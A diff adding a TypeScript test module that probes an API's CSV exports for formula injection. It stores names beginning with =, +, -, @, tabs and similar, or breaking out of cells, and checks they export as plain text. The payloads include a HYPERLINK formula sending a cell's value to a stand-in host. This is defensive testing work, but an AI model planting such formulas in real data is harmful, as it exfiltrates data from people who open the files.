@@ -1,0 +1,183 @@
+/**
+ * What somebody stores as a name is a text in the file that others open in a spreadsheet. Rows are made whose texts begin
+ * like formulas or try to break out of their cell; then their list is exported, and read as a spreadsheet reads it.
+ */
+import { randomBytes } from 'node:crypto';
+import type { Policy } from '../../policy/types.ts';
+import { takeFile } from '../checks/files.ts';
+import { succeeded } from '../checks/workshop.ts';
+import type { World } from '../checks/world.ts';
+import { isFormula, parseCsv } from '../oracle/csv.ts';
+import { errorProblems } from '../oracle/denied.ts';
+import { listProblems } from '../oracle/served.ts';
+import { lanes, stewardOf } from '../plan/cells.ts';
+import type { Call } from '../probe/client.ts';
+import { Blocked, type Problem } from '../record/problem.ts';
+import type { Kind, TenantCell } from './kind.ts';
+
+/** Texts by what they try; `#` stands for a word by which the row is found again. */
+const TEXTS = {
+  plain: ['a plain text', 'Probe #'],
+  equals: ['a text that begins with =', '=HYPERLINK("//probe.example/?"&A1,"#")'],
+  plus: ['a text that begins with +', '+1+1 #'],
+  minus: ['a text that begins with -', '-1+1 #'],
+  at: ['a text that begins with @', '@SUM(1+1) #'],
+  wide: ['a text that begins with a wide =', '\uFF1D1+1 #'],
+  tab: ['a text that begins with a tab', '\t=1+1 #'],
+  return: ['a text that begins with a carriage return', '\r=1+1 #'],
+  quote: ['a text that closes its cell with a quote', '#",=1+1,"#'],
+  line: ['a text that begins a line of its own', '#\n=1+1'],
+} as const satisfies Record<string, readonly [says: string, text: string]>;
+type Try = keyof typeof TEXTS;
+
+type FormulaCell = TenantCell & { resource: string; rows: string; tries: Try | 'head' };
+
+interface Exported {
+  /** The word of each text. */
+  words: ReadonlyMap<Try, string>;
+  /** What the text was answered where it was refused. */
+  refused: ReadonlyMap<Try, Call>;
+  file: Call;
+  table: string[][];
+}
+
+const exported = new WeakMap<World, Map<string, Promise<Exported>>>();
+
+/** Makes one row with the text: in every field that takes a text, or else in those alone that hold one of the run's own. */
+async function store(world: World, cell: FormulaCell, text: string): Promise<Call> {
+  const [name = ''] = world.policy.resources[cell.rows]?.make ?? [];
+  const operation = world.operation(name);
+  const owner = world.workshop.ownerOf(cell.rows, cell.tenant);
+  const client = await world.clientOf(owner);
+  const shape = world.shape(operation, {}, cell.tenant);
+  const template = Object.entries(operation.body ?? {});
+  const send = (fits: (value: string) => boolean): Promise<Call> => {
+    const texts = template.filter(([, value]) => typeof value === 'string' && fits(value));
+    const body = {
+      ...(JSON.parse(shape.body ?? '{}') as object),
+      ...Object.fromEntries(texts.map(([field]) => [field, text])),
+    };
+    return client.send(operation.method, { ...shape, body: JSON.stringify(body) });
+  };
+  const everywhere = await send(() => true);
+  const call = succeeded(everywhere) ? everywhere : await send((value) => value.includes('{{unique}}'));
+  if (succeeded(call)) await world.workshop.keep(cell.rows, cell.tenant, owner, call);
+  return call;
+}
+
+async function exportAll(world: World, cell: FormulaCell): Promise<Exported> {
+  const words = new Map<Try, string>();
+  const refused = new Map<Try, Call>();
+  for (const [tries, [, text]] of Object.entries(TEXTS) as [Try, readonly [string, string]][]) {
+    const word = `${world.mark}${randomBytes(4).toString('hex')}`;
+    words.set(tries, word);
+    const call = await store(world, cell, text.replaceAll('#', word));
+    if (!succeeded(call)) refused.set(tries, call);
+  }
+  const owner = world.workshop.ownerOf(cell.resource, cell.tenant);
+  const at = await world.workshop.fresh(cell.resource, cell.tenant, owner);
+  const file = await takeFile(world, cell.resource, at, { owner, tenant: cell.tenant });
+  return { words, refused, file, table: parseCsv(file.answer.text) };
+}
+
+function exportOf(world: World, cell: FormulaCell): Promise<Exported> {
+  const known = exported.get(world) ?? new Map<string, Promise<Exported>>();
+  exported.set(world, known);
+  const key = `${cell.resource}/${cell.tenant}`;
+  const made = known.get(key) ?? exportAll(world, cell);
+  known.set(key, made);
+  return made;
+}
+
+/** The rows from the first to the last one that holds the word: a text that breaks out makes several of one. */
+function rowsWith(table: readonly string[][], word: string): string[][] {
+  const holds = table.map((row) => row.some((value) => value.includes(word)));
+  const first = holds.indexOf(true);
+  return first < 0 ? [] : table.slice(first, holds.lastIndexOf(true) + 1);
+}
+
+async function staysText(world: World, cell: FormulaCell): Promise<Problem[]> {
+  const { words, refused, file, table } = await exportOf(world, cell);
+  const { request } = file;
+  const [head = []] = table;
+  if (rowsWith(table, words.get('plain') ?? '').length === 0)
+    throw new Blocked(
+      `the export of ${cell.resource} does not hold a row of ${cell.rows} that was made for it`,
+    );
+  if (cell.tries === 'head')
+    return listProblems(file.answer).map((seen) => ({
+      rule: 'file-served-as-page',
+      request,
+      expected: 'comma-separated values to be saved',
+      seen,
+    }));
+  const refusal = refused.get(cell.tries);
+  // What is not stored cannot be exported; that it is refused must be as plain as any refusal.
+  if (refusal) return errorProblems(refusal, world.policy.errors);
+  const word = words.get(cell.tries) ?? '';
+  const rows = rowsWith(table, word);
+  if (rows.length === 0) throw new Blocked(`the export does not hold the row with ${TEXTS[cell.tries][0]}`);
+  const next = table.slice(table.indexOf(rows.at(-1) ?? []) + 1).slice(0, 1);
+  const formulas = [...rows, ...next].flat().filter(isFormula);
+  const broken = rows.filter((row) => row.length !== head.length);
+  return [
+    ...(formulas.length === 0
+      ? []
+      : [
+          {
+            request,
+            expected: `${TEXTS[cell.tries][0]}, as a text`,
+            seen: `the cell ${JSON.stringify(formulas[0]?.replaceAll(word, '…').slice(0, 60))}`,
+          },
+        ]),
+    ...(broken.length === 0
+      ? []
+      : [
+          {
+            request,
+            expected: `${head.length} cells in a row`,
+            seen: `${broken[0]?.length ?? 0} in the row with ${TEXTS[cell.tries][0]}`,
+          },
+        ]),
+  ];
+}
+
+/** Resources whose file is a list of rows that one request makes. */
+const listing = (policy: Policy): [resource: string, rows: string][] =>
+  Object.entries(policy.resources).flatMap(([resource, { file }]) => {
+    const made = file?.rows === undefined ? [] : (policy.resources[file.rows]?.make ?? []);
+    return file?.rows !== undefined && policy.operations[made[0] ?? '']?.body ? [[resource, file.rows]] : [];
+  });
+
+export const exportedFormulas: Kind<FormulaCell> = {
+  plan: (policy) =>
+    listing(policy).flatMap(([resource, rows]) => {
+      const [tenant] = Object.keys(policy.tenants);
+      const operation = policy.resources[resource]?.file?.operation ?? '';
+      if (tenant === undefined) return [];
+      const tries = [...(Object.keys(TEXTS) as Try[]), 'head'] as const;
+      return lanes<FormulaCell>(
+        {
+          title: `What is stored as a text is a text in the file of ${resource}`,
+          gate: 'isolation',
+          rule: 'formula-in-export',
+          also: ['file-served-as-page'],
+          feature: resource,
+        },
+        tries.map((one) => ({
+          id: `isolation/export/${resource}/${one}`,
+          title:
+            one === 'head'
+              ? `the file of ${resource} is one to be saved`
+              : `${TEXTS[one][0]} is a text in the file of ${resource}`,
+          operation,
+          actor: stewardOf(policy, tenant) ?? tenant,
+          tenant,
+          resource,
+          rows,
+          tries: one,
+        })),
+      );
+    }),
+  judge: staysText,
+};
